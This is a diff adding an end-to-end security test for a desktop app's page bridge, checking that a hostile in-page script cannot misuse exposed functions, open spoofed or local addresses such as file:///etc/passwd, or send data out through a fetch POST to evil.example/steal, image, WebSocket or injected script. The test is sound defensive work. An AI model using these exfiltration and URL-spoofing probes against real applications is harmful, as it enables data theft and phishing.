@@ -1,0 +1,125 @@
+import { bridgeCalls, bridgeEvents } from "../../bridge.ts";
+import { joinedMember } from "../support/members.ts";
+import { signInToApp } from "./app-actions.ts";
+import { expect, test } from "./desktop-test.ts";
+
+test("a hostile script in the page reaches the named functions, and each refuses what it should not get", async ({ server, openApp }) => {
+  const app = await openApp();
+  await signInToApp(app.page, await joinedMember(server));
+
+  const reached = await app.page.evaluate(() => ({
+    names: Object.keys(window.glimmer).toSorted(),
+    kinds: [...new Set(Object.values(window.glimmer).map((value) => typeof value))],
+    globals: ["require", "process", "module", "Buffer", "electron", "ipcRenderer", "__hostInvoke"]
+      .filter((name) => name in globalThis),
+    isFrozen: Object.isFrozen(window.glimmer),
+  }));
+  expect(reached).toEqual({
+    names: [...Object.keys(bridgeCalls), ...Object.keys(bridgeEvents)].toSorted(),
+    kinds: ["function"],
+    globals: [],
+    isFrozen: true,
+  });
+
+  // Every call with every kind of argument it should not get.
+  const refusals = await app.page.evaluate(async (names) => {
+    const bad: unknown[][] = [
+      [{ toString: "x" }, 1, 2],
+      ["javascript:alert(1)", "extra"],
+      [-1, null, []],
+      [{ __proto__: { admin: true }, unknown: 1 }, "x"],
+    ];
+    const accepted: string[] = [];
+    const messages = new Set<string>();
+    for (const name of names) {
+      for (const args of bad) {
+        const call =
+          (window.glimmer as unknown as Record<string, (...args: unknown[]) => Promise<unknown>>)[name];
+        await call?.(...args).then(
+          () => accepted.push(`${name}(${JSON.stringify(args)})`),
+          (error: Error) => messages.add(error.message.replace(/.*Error: (\w+) refused.*/s, "$1 refused")),
+        );
+      }
+    }
+    return { accepted, messages: [...messages].toSorted() };
+  }, Object.keys(bridgeCalls));
+  expect(refusals).toEqual({
+    accepted: [],
+    messages: Object.keys(bridgeCalls).map((name) => `${name} refused`).toSorted(),
+  });
+
+  // Addresses that only look right.
+  const addresses = [
+    "file:///etc/passwd",
+    "javascript:alert(1)",
+    "glimmer://post/1",
+    "http://evil.example/",
+    "https://user:pass@evil.example/",
+    "smb://evil.example/share",
+  ];
+  for (const address of addresses) {
+    await expect(app.page.evaluate((url) => window.glimmer.openExternal(url), address)).rejects.toThrow();
+  }
+  for (
+    const address of [
+      "https://evil.example/",
+      "https://checkout.stripe.com.evil.example/",
+      "https://x@checkout.stripe.com/",
+    ]
+  ) {
+    await expect(app.page.evaluate((url) => window.glimmer.openCheckout(url), address)).rejects.toThrow(
+      /payments/,
+    );
+  }
+  expect(await app.ask("openedOutside")).toEqual([]);
+  await app.page.evaluate(() => window.glimmer.openCheckout("https://checkout.stripe.com/c/pay/cs_test_1"));
+  expect(await app.ask("openedOutside")).toEqual(["https://checkout.stripe.com/c/pay/cs_test_1"]);
+
+  // Out of the page: nowhere. Links to https go to the system's browser.
+  const left = await app.page.evaluate(async () => {
+    const tries = {
+      fetch: () => fetch("https://evil.example/steal", { method: "POST", body: "x" }),
+      image: () =>
+        new Promise((resolve, reject) => {
+          const image = new Image();
+          image.onload = resolve;
+          image.onerror = () => reject(new Error("refused"));
+          image.src = "https://evil.example/pixel.png";
+        }),
+      socket: () =>
+        new Promise((resolve, reject) => {
+          const socket = new WebSocket("wss://evil.example/");
+          socket.onopen = resolve;
+          socket.onerror = () => reject(new Error("refused"));
+        }),
+      worker: () => Promise.resolve(new Worker("data:text/javascript,1")),
+      eval: () => Promise.resolve((0, eval)("1")),
+    };
+    const got: string[] = [];
+    for (const [name, run] of Object.entries(tries)) {
+      await Promise.resolve().then(run).then(() => got.push(name), () => undefined);
+    }
+    const script = document.createElement("script");
+    script.textContent = "window.wasRun = true";
+    document.head.append(script);
+    return { got, wasRun: "wasRun" in window };
+  });
+  expect(left.wasRun).toBe(false);
+  // A worker's refusal comes as an event; that it cannot run is the policy's doing.
+  expect(left.got.filter((name) => name !== "worker" && name !== "eval")).toEqual([]);
+
+  const before = app.page.url();
+  await app.page.evaluate(() => {
+    window.open("https://elsewhere.example/window");
+    location.href = "https://elsewhere.example/page";
+  });
+  await expect.poll(() => app.ask("openedOutside")).toEqual(expect.arrayContaining([
+    "https://elsewhere.example/page",
+  ]));
+  expect(app.page.url()).toBe(before);
+  expect(
+    (await app.ask("permissions")).filter(({ isGranted }) => isGranted).map(({ permission }) => permission),
+  )
+    .toEqual(["notifications", "clipboard-sanitized-write"]);
+  expect(app.output()).toContain("refused its arguments");
+});
